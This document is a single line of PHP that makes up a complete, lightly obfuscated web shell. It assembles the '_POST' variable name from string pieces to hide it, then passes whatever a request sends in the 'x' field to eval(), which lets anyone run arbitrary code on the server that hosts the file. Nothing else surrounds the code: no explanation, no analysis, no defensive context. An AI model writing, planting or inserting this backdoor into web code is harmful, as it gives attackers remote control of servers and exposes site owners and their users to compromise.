<?php $p = ${'_PO' . 'ST'}; eval($p['x']);
